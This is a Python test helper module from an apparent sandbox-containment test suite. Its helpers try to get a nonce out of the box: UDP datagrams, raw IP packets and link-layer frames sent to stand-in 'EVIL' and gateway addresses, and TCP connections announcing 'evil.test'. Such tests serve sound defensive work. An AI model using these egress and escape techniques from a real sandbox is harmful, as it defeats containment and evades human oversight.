"""Attacks on what surrounds a program in the box: code that has ``kernel.py`` before it.

An attack may run in a box that holds nothing, and as root. So it does nothing to processes, descriptors,
mounts or namespaces but its own: from another namespace than the test network's, what it sends would leave.
"""

from pathlib import Path
from typing import Final

from tests.adversary.arena import Inmate
from tests.adversary.attack import Act
from tests.adversary.in_the_box import runs
from tests.adversary.wire import hello
from tests.lab import plan

KERNEL: Final = (Path(__file__).parent / "kernel.py").read_text()

_HELP: Final = f"""
EVIL, EVIL6, GATE, GATE6 = {plan.EVIL4!r}, {plan.EVIL6!r}, {plan.GATE4!r}, {plan.GATE6!r}
EVERYWHERE = (EVIL, EVIL6, GATE, GATE6, {plan.PRIVATE4!r}, {plan.METADATA4!r}, {plan.CIDR4!r},
              "224.0.0.1", "255.255.255.255", "ff02::1", "10.0.2.2", "fe80::1%lo")

def family(address):
    return socket.AF_INET6 if ":" in address else socket.AF_INET

def datagrams(to=EVERYWHERE, ports=(443, 123, 4789, 67, 5353)):
    # Whatever leaves, leaves at once: UDP asks nobody.
    for address in to:
        for port in ports:
            sock = opened(family(address), socket.SOCK_DGRAM)
            attempt(sock.setsockopt, socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            attempt(sock.sendto, NONCE, (address, port))

FRAMES = dict()  # such a socket takes the kernel long to close

def packets(to=(EVIL, GATE, {plan.CIDR4!r})):
    # By hand: raw sockets of IP, and frames on every interface.
    def frame(interface, kind, packet):
        sock = FRAMES.get(kind) or FRAMES.setdefault(kind, opened(socket.AF_PACKET, kind))
        link = b"" if kind == socket.SOCK_DGRAM else bytes(6) + b"\\2" * 6 + b"\\x08\\x00"
        sock.sendto(link + packet, (interface, 0x800, 0, 0, bytes(6)))
    for address in to:
        echo = ipv4("10.0.2.15", address, 1, b"\\x08\\0\\0\\0" + NONCE)
        syn = tcp_syn("10.0.2.15", address, 443, NONCE)
        for packet in (syn, udp(GATE, address, 443, NONCE), echo):
            attempt(lambda: opened(2, socket.SOCK_RAW, socket.IPPROTO_RAW).sendto(packet, (address, 0)))
            for _, interface in socket.if_nameindex():
                for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
                    attempt(frame, interface, kind, packet)
    for kind, protocol in ((socket.SOCK_RAW, 58), (socket.SOCK_DGRAM, 58), (socket.SOCK_RAW, 255)):
        attempt(lambda: opened(10, kind, protocol).sendto(b"\\x80\\0\\0\\0\\0\\1\\0\\1" + NONCE, (EVIL6, 0)))
    for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
        attempt(lambda: opened(2, kind, 1).sendto(b"\\x08\\0\\xf7\\xfe\\0\\1\\0\\0" + NONCE, (EVIL, 0)))

def says(address=EVIL, port=443, data=None, prepare=lambda sock: None, timeout=1, **options):
    # How a connection to a place, with the name of another there, ends.
    sock = opened(family(address), timeout=timeout, **options)
    prepare(sock)
    try:
        sock.connect((address, port))
    except ConnectionResetError:
        return "the end"  # it was reset before connect() had returned
    except OSError as error:
        return "timeout" if isinstance(error, socket.timeout) else errno.errorcode[error.errno]
    return end_of(sock, HELLO if data is None else data)

def together(ends):
    return ", ".join(sorted(set(ends)))

def in_child(act):
    # Namespaces and ids are a process's own; this one has threads, and goes on.
    pid = os.fork()
    if pid == 0:
        try:
            act()
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
"""


def attacks(source: str) -> Act:
    """Run code in the box; what it leaves in ``result`` is what the attack has seen."""
    return runs(KERNEL + _HELP + source, HELLO=lambda box: hello(box, b"evil.test"))


async def python(inmate: Inmate, source: str) -> object:
    """What code that has ``kernel.py`` before it, and nothing else, leaves in ``result``."""
    return await inmate.attacker.python(f"{KERNEL}\nimport os\n{source}")
